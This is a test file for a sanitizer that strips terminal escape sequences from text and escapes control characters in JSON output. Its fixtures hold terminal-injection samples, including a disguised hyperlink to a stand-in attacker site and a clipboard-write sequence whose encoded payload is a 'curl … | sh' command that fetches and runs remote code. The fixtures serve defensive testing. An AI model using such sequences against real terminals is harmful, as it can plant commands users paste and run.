import { HOSTILE_TEXT, HOSTILE_TEXT_SHOWN, TERMINAL_CONTROLS } from '../../test/hostileText';
import { jsonText, terminalSafe } from './terminalText';

describe('terminalSafe', () => {
  it.each([
    ['window title (OSC 0, BEL)', 'a\u001b]0;pwned\u0007b', 'ab'],
    ['window title ended by ST', 'a\u001b]2;pwned\u001b\\b', 'ab'],
    ['screen clear and cursor moves (CSI)', '\u001b[2J\u001b[H\u001b[10;20Hx\u001b[?25l', 'x'],
    ['colours (SGR)', '\u001b[1;38;5;196mred\u001b[0m', 'red'],
    ['hidden link (OSC 8)', '\u001b]8;;https://evil.example/refund\u001b\\Claim\u001b]8;;\u001b\\', 'Claim'],
    ['clipboard write (OSC 52)', 'x\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007y', 'xy'],
    ['8-bit CSI (U+009B)', '\u009b2J\u009b31mz', 'z'],
    ['8-bit OSC ended by 8-bit ST', '\u009d0;t\u009cz', 'z'],
    ['DCS, APC, PM and SOS strings', '\u001bP1$r\u001b\\\u001b_apc\u001b\\\u001b^pm\u001b\\\u001bXsos\u001b\\z', 'z'],
    ['character set and other two-byte escapes', '\u001b(0q\u001b(B\u001bc\u001b7\u001b8z', 'qz'],
    ['backspace, carriage return, bell, DEL, NUL', 'ab\bc\rd\u0007e\u007ff\u0000g', 'abcdefg'],
    ['other C1 controls (NEL, IND)', 'a\u0085b\u0084c', 'abc'],
    ['an introducer without its end (the rest is plain text)', 'a\u001b]0;never ended', 'a0;never ended'],
  ])('strips %s', (_name, input, shown) => {
    expect(terminalSafe(input)).toBe(shown);
  });

  it('keeps line feeds, tabs, accents, other scripts and emoji', () => {
    const text = 'Zoë’s café\n\tKöln · 東京 · مرحبا · 🚀 — 100%';
    expect(terminalSafe(text)).toBe(text);
    expect(terminalSafe('one\r\ntwo')).toBe('one\ntwo');
  });

  it('leaves nothing a terminal acts on in the attack text', () => {
    expect(terminalSafe(HOSTILE_TEXT)).toBe(HOSTILE_TEXT_SHOWN);
    expect(terminalSafe(HOSTILE_TEXT)).not.toMatch(TERMINAL_CONTROLS);
  });

  it('stays linear on many introducers without an end', () => {
    const text = '\u001b]'.repeat(50_000) + 'end';
    expect(terminalSafe(text)).toBe('end');
  });
});

describe('jsonText', () => {
  it('is the same JSON, with DEL, C1 controls and line separators escaped (the C0 ones JSON escapes itself)', () => {
    const value = { idea: HOSTILE_TEXT, other: 'a\u2028b' };
    const text = jsonText(value);
    expect(text).not.toMatch(TERMINAL_CONTROLS);
    expect(text).toContain('\\u009b31mC1');
    expect(text).toContain('a\\u2028b');
    expect(JSON.parse(text)).toEqual(value);
    expect(text).toBe(JSON.stringify(value, null, 2).replace(/[\u007f-\u009f\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`));
  });
});
